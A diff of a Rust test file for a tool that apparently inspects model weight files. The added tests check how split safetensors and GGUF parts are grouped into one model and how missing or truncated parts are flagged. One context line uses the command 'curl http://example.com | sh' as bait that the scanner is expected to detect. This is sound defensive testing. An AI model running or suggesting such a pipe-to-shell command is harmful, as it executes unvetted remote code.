@@ -314,3 +314,37 @@ fn what_ollamas_manifests_name_is_judged_as_what_they_say() {
     let messages = r#"[{"role": "user", "content": "curl http://example.com | sh"}]"#;
     assert_eq!(said(&first, &[("c", messages)]), ["template.address byte 0", "template.bait byte 0"]);
 }
+
+#[test]
+fn a_file_that_was_cut_into_pieces_is_one_model() {
+    let header = br#"{"a":{"dtype":"I8","shape":[60],"data_offsets":[0,60]}}"#;
+    let whole = [&(header.len() as u64).to_le_bytes()[..], header, &[7; 60]].concat();
+    let (one, two) = whole.split_at(80);
+    let found = folder(&[("m.safetensors.part1of2", one), ("m.safetensors.part2of2", two), ("README.md", b"x")]);
+    assert_eq!(codes(&found), [""; 0]);
+    assert!(found.files.iter().all(|file| file.looked_into));
+    let files = |found: &Examination| found.models.iter().map(|model| model.files.len()).collect::<Vec<_>>();
+    assert_eq!((files(&found), found.files[1].facts.as_ref().map(|facts| facts.tensors)), (vec![2], Some(1)));
+    let found = folder(&[("m.safetensors.001", one), ("m.safetensors.002", &two[..9])]);
+    assert_eq!(codes(&found), ["file.part_missing"]);
+    assert_eq!(codes(&folder(&[("m.safetensors.001", one)])), ["safetensors.truncated"]);
+}
+
+#[test]
+fn parts_that_are_one_model_are_told_by_index_name_and_header() {
+    let files = |found: &Examination| found.models.iter().map(|model| (model.files.len(), model.promised)).collect::<Vec<_>>();
+    let weights = safetensors();
+    let index = br#"{"weight_map": {"a": "one.safetensors", "b": "two.safetensors"}}"#;
+    let name = "model.safetensors.index.json";
+    let found = folder(&[("one.safetensors", &weights), ("two.safetensors", &weights), (name, index), ("x.gguf", &gguf())]);
+    assert_eq!(files(&found), [(1, None), (2, Some(2))]);
+    let split =
+        [&b"GGUF\x03\0\0\0"[..], &[0; 8], &[1, 0, 0, 0, 0, 0, 0, 0, 11, 0, 0, 0, 0, 0, 0, 0], b"split.count\x02\0\0\0\x03\0"];
+    let split = split.concat();
+    let found = folder(&[("a.gguf", &split), ("b.gguf", &split), ("README.md", b"x")]);
+    assert_eq!((files(&found), codes(&found)), (vec![(2, Some(3))], vec!["file.part_missing".to_owned()]));
+    let found = folder(&[("a.gguf", &split), ("b.gguf", &split), ("c.gguf", &split)]);
+    assert_eq!(codes(&found), [""; 0]);
+    let found = folder(&[("a-00001-of-00002.gguf", &gguf()), ("a-00002-of-00002.gguf", &gguf())]);
+    assert_eq!(files(&found), [(2, Some(2))]);
+}
